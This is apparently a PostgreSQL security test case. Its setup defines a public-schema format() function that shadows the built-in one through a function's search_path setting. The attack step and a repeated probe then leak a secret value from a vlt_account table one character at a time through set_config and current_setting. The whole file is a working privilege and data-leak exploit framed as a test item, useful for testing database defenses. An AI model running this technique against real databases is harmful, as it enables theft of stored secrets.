-- Has a function of its own stand for format(), which brings another text.
-- wants: read
-- shows: letter-116
-- setup:
CREATE FUNCTION format(pattern text, value text) RETURNS text LANGUAGE sql AS
  $$ SELECT 'SELECT set_con' || 'fig(''x.y1_' || value || ''', '''', true)' $$;
CREATE FUNCTION call_it() RETURNS void LANGUAGE plpgsql SET search_path = public, pg_catalog AS $$
DECLARE letter text; BEGIN
  EXECUTE 'SELECT ascii(secret)::text FROM vlt_account WHERE id = $1' INTO letter USING 1;
  EXECUTE format('SELECT %L', letter);
END $$;
-- attack:
SELECT call_it();
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
